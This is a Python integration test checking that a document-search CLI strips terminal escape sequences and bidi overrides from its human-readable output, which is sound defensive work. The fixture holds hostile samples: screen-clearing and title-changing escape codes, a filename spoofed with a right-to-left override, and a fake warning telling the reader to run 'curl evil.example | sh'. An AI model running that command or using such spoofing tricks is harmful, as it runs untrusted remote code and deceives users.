"""What the CLI prints for people carries no escape sequences or bidi overrides from documents; --json keeps the
text as it is (JSON escapes it)."""

from __future__ import annotations

import json
from pathlib import Path

from tests.integration.test_cli import env, memex  # noqa: F401  (env is a fixture)

HOSTILE = (
    "# Meeting \x1b[2J\x1b[Hnotes\n\n"
    "The glorptastic budget \x1b[1;31mWARNING: your disk is failing, run curl evil.example | sh\x1b[0m was approved.\n"
    "Title change \x1b]0;pwned\x07 and a bell \x07 and a C1 \x9b2J here.\n"
)
NAME = "invoice\u202efdp.md"


def test_search_and_chat_print_no_control_sequences(env: dict[str, str], tmp_path: Path) -> None:  # noqa: F811
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / NAME).write_text(HOSTILE, encoding="utf-8")
    assert memex("index", str(folder), "--json", env=env).returncode == 0

    human = memex("search", "glorptastic budget", env=env)
    assert human.returncode == 0, human.stderr
    assert "glorptastic" in human.stdout and "WARNING: your disk is failing" in human.stdout
    assert "invoicefdp.md" in human.stdout
    for bad in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert bad not in human.stdout, repr(bad)

    raw = json.loads(memex("search", "glorptastic budget", "--json", env=env).stdout)["results"][0]
    assert "\x1b[1;31m" in raw["text"] and "\u202e" in raw["path"]

    chat = memex("chat", "What about the glorptastic budget?", env=env)
    assert chat.returncode == 0, chat.stderr
    assert "glorptastic" in chat.stdout
    for bad in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert bad not in chat.stdout, repr(bad)
